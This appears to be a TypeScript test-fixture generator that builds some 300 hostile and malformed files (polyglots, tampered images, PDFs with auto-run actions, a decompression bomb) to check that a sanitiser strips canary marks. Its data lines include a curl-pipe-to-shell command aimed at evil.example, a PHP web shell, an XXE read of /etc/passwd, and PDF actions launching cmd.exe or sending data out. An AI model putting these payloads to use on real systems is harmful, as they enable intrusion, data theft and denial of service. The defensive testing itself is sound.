import { deflateSync } from 'node:zlib'
import { makePdf, makePhoto, makePicture, packed, pdfStream, pngOfSize, withChunk, withSegment } from './make-files.ts'

/** A file that means ill, or tells more than it shows. Where it is taken, nothing of its mark may be left. */
export type HostileFile = { readonly name: string; readonly bytes: Buffer; readonly mark: string }

/** What programs, pages and archives begin with; the mark follows on each. */
const FOREIGN: readonly (readonly [string, string])[] = [
  ['exe', 'MZ\x90\0\x03\0\0\0'],
  ['elf', '\x7fELF\x02\x01\x01\0'],
  ['mach-o', '\xcf\xfa\xed\xfe\x07\0\0\x01'],
  ['java', '\xca\xfe\xba\xbe\0\0\0\x34'],
  ['wasm', '\0asm\x01\0\0\0'],
  ['zip', 'PK\x03\x04\x14\0\0\0'],
  ['gzip', '\x1f\x8b\x08\0\0\0\0\0'],
  ['rar', 'Rar!\x1a\x07\0'],
  ['html', '<!doctype html><script>alert(1)</script>'],
  ['svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['php', '<?php system($_GET["c"]); ?>'],
  ['shell', '#!/bin/sh\ncurl http://evil.example | sh\n'],
  ['script', 'MSForms = 1; fetch("http://evil.example")\n'],
  ['rtf', '{\\rtf1\\ansi{\\object\\objocx}}'],
  ['ole', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
  ['postscript', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'],
  ['gif', 'GIF89a\x01\0\x01\0\0\0\0;'],
  ['webp', 'RIFF\x1a\0\0\0WEBPVP8L'],
  ['tiff', 'II*\0\x08\0\0\0'],
]

/** How a catalog can name what runs, opens, sends or carries something; `$` is the mark. */
const ACTIVE: readonly string[] = [
  '/OpenAction << /S /JavaScript /JS (app.alert\\("$"\\)) >>',
  '/OpenAction << /S /Launch /F (cmd.exe $) >>',
  '/OpenAction << /S /SubmitForm /F (http://evil.example/$) >>',
  '/OpenAction << /S /ImportData /F ($) >>',
  '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\$) >>',
  '/OpenAction << /S /GoToE /T ($) >>',
  '/OpenAction << /S /Rendition /R ($) >>',
  '/OpenAction << /S /Thread /F ($) >>',
  '/OpenAction << /S /Sound /Sound ($) >>',
  '/OpenAction << /S /Movie /T ($) >>',
  '/OpenAction << /S /RichMediaExecute /TA ($) >>',
  '/OpenAction << /S /URI /URI (javascript:$) >>',
  '/OpenAction << /S /URI /URI (file:///etc/$) >>',
  '/OpenAction << /S /URI /URI (\\152avascript:$) >>',
  '/OpenAction << /S /URI >>',
  '/AA << /WC << /S /JavaScript /JS ($) >> >>',
  '/Names << /JavaScript << /Names [($) 5 0 R] >> >>',
  '/Names << /EmbeddedFiles << /Names [($) 5 0 R] >> >>',
  '/AF [<< /Type /Filespec /EF << /F 5 0 R >> /UF ($) >>]',
  '/AcroForm << /Fields [] /XFA [($) 5 0 R] >>',
  '/Collection << /View /D /D ($) >>',
  '/Extra << /Type /Annot /Subtype /RichMedia /NM ($) >>',
  '/Extra << /Type /Annot /Subtype /3D /NM ($) >>',
  '/Extra << /Subtype /PS /NM ($) >>',
]

/** The corpus, made anew each time: 300 files, each with a mark of its own. */
export async function makeHostileFiles(): Promise<readonly HostileFile[]> {
  const files: HostileFile[] = []
  const add = (name: string, make: (mark: string) => Buffer | string) => {
    const mark = `CANARY-${files.length}-`
    const made = make(mark)
    files.push({ name, mark, bytes: typeof made === 'string' ? Buffer.from(made, 'latin1') : made })
  }
  const [png, jpeg, pdf] = [await makePicture('png'), await makePicture('jpeg'), makePdf()]
  const foreign = (beginning: string, mark: string) => Buffer.from(beginning + mark.repeat(20), 'latin1')

  for (const [name, beginning] of FOREIGN) {
    add(`${name} under another name`, (mark) => foreign(beginning, mark))
    add(`${name} behind the beginning of a PNG`, (mark) => Buffer.concat([png.subarray(0, 8), foreign(beginning, mark)]))
    add(`${name} behind the beginning of a JPEG`, (mark) => Buffer.concat([jpeg.subarray(0, 3), foreign(beginning, mark)]))
    add(`${name} behind the beginning of a PDF`, (mark) => Buffer.concat([pdf.subarray(0, 9), foreign(beginning, mark)]))
    add(`${name} behind a PNG`, (mark) => Buffer.concat([png, foreign(beginning, mark)]))
    add(`${name} behind a JPEG`, (mark) => Buffer.concat([jpeg, foreign(beginning, mark)]))
    add(`${name} behind a PDF`, (mark) => Buffer.concat([pdf, foreign(beginning, mark)]))
  }
  for (const type of ['tEXt', 'zTXt', 'iTXt', 'eXIf', 'iCCP', 'prVt', 'tIME', 'XXXX']) {
    add(`a PNG with a chunk ${type}`, (mark) => withChunk(png, type, Buffer.from(`Comment\0${mark}`)))
  }
  for (const marker of [0xe1, 0xe2, 0xe3, 0xe9, 0xec, 0xed, 0xef, 0xfe]) {
    const name = marker.toString(16)
    add(`a JPEG with a segment ${name}`, (mark) => withSegment(jpeg, marker, Buffer.from(`<?php ${mark} ?>`)))
    add(`a JPEG with a wrong segment ${name}`, (mark) => withSegment(jpeg, marker, Buffer.from(`Exif\0\0II*\0${mark}`)))
  }
  for (let part = 1; part <= 6; part += 1) {
    add(`${part}/7 of a PNG`, () => png.subarray(0, (png.length * part) / 7))
    add(`${part}/7 of a JPEG`, () => jpeg.subarray(0, (jpeg.length * part) / 7))
    add(`${part}/7 of a PDF`, () => pdf.subarray(0, (pdf.length * part) / 7))
  }
  for (const size of [20_000, 40_000, 65_535, 500_000, 2_000_000_000]) {
    add(`a PNG of ${size} by ${size}`, () => pngOfSize(size, size))
    add(`a JPEG that says to be ${size} high`, () => {
      const large = Buffer.from(jpeg)
      large.writeUInt32BE(0xffffffff, large.indexOf(Buffer.from([0xff, 0xc0])) + 5)
      return large
    })
  }
  add('nothing', () => '')
  add('one byte', () => '%')
  add('a PNG whose pixels were changed', () => changed(png, png.indexOf('IDAT') + 8))
  add('a JPEG whose tables were changed', () => changed(jpeg, 30))
  for (let turn = 1; turn <= 8; turn += 1) {
    const photo = await makePhoto({ degrees: 10 + turn, orientation: turn })
    files.push({ name: `a photo with its position, ${turn}`, bytes: photo, mark: `CANARY-${10 + turn}` })
  }
  for (const active of ACTIVE) {
    add(`a PDF with ${active}`, (mark) => makePdf({ catalog: active.replace('$', mark), objects: [`<< /N (${mark}) >>`] }))
    add(`a PDF with codes in ${active}`, (mark) => makePdf({ catalog: withCodes(active).replace('$', mark), objects: ['null'] }))
    add(`a PDF with packed ${active}`, (mark) => makePdf({ objects: [packed(9, `<< ${active.replace('$', mark)} >>`)] }))
  }
  for (const [name, parts] of oddPdfs())
    add(name, (mark) => (Buffer.isBuffer(parts) ? parts : Buffer.from(parts.replace('$', mark), 'latin1')))
  return files
}

function changed(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes)
  copy[at] = 0xff ^ (copy[at] ?? 0)
  return copy
}

/** Names of a PDF can be written with codes, which not everybody reads. */
function withCodes(active: string): string {
  return active.replace(/\/([A-Z0-9])(?=[A-Za-z]|\b)/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`)
}

function oddPdfs(): readonly (readonly [string, string | Buffer])[] {
  const text = (pdf: Buffer) => pdf.toString('latin1')
  const bomb = deflateSync(Buffer.alloc(70_000_000))
  const script = '<< /S /JavaScript /JS ($) >>'
  return [
    ['an encrypted PDF', text(makePdf({ trailer: '/Encrypt << /Filter /Standard /O ($) >>' }))],
    ['a PDF whose older state ran something', text(makePdf({ objects: [script, 'null'] })).replace('6 0 obj', '5 0 obj')],
    ['a PDF with a script that nothing refers to', text(makePdf({ objects: [script] }))],
    ['a PDF with a script between its objects', text(makePdf()).replace('2 0 obj', `${script}\n2 0 obj`)],
    ['a PDF with words before it', `<script>$</script>\n${text(makePdf())}`],
    ['a PDF whose object does not end', text(makePdf()).replace('endobj', '')],
    ['a PDF whose stream is longer than it says', text(makePdf()).replace('/Length 35', '/Length 5')],
    ['a PDF whose stream is shorter than it says', text(makePdf()).replace('/Length 35', '/Length 900')],
    ['a PDF with a length that is no number', text(makePdf()).replace('/Length 35', '/Length -1')],
    ['a PDF with a key twice', text(makePdf({ catalog: '/A 1 /A ($)' }))],
    ['a PDF without a catalog', text(makePdf()).replace('/Catalog', '/Catalox')],
    ['a PDF without pages', text(makePdf()).replace('/Pages 2 0 R', '/Pagez ($)')],
    ['a PDF that is nested ten thousand times', text(makePdf({ catalog: `/A ${'['.repeat(10_000)}` }))],
    [
      'a PDF with objects that unpack to 70 MB',
      makePdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
    ],
    [
      'a PDF with objects packed twice',
      makePdf({
        objects: [
          pdfStream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync('9 0 null'))),
        ],
      }),
    ],
    [
      'a PDF with objects packed by LZW',
      makePdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from('abc'))] }),
    ],
    [
      'a PDF with packed objects that are none',
      makePdf({ objects: [pdfStream('/Type /ObjStm /N 5 /First 400', Buffer.from('1 2 3'))] }),
    ],
    [
      'a PDF with a stream from another file',
      makePdf({ objects: [pdfStream('/F (\\\\\\\\evil.example\\\\a)', Buffer.from('x'))] }),
    ],
    [
      'a PDF with metadata',
      text(makePdf({ catalog: '/Metadata 5 0 R', objects: [text(pdfStream('/Type /Metadata', Buffer.from('$')))] })),
    ],
    ['a PDF with its makers', text(makePdf({ trailer: '/Info 5 0 R', objects: ['<< /Author ($) >>'] }))],
    ['a PDF with a comment', text(makePdf()).replace('2 0 obj', '% $\n2 0 obj')],
    ['a PDF with half a text', text(makePdf({ catalog: '/A ($' }))],
    ['a PDF with half a text in digits', text(makePdf({ catalog: '/A <4a' }))],
    ['a PDF whose text in digits has letters', text(makePdf({ catalog: '/A <$>' }))],
  ]
}
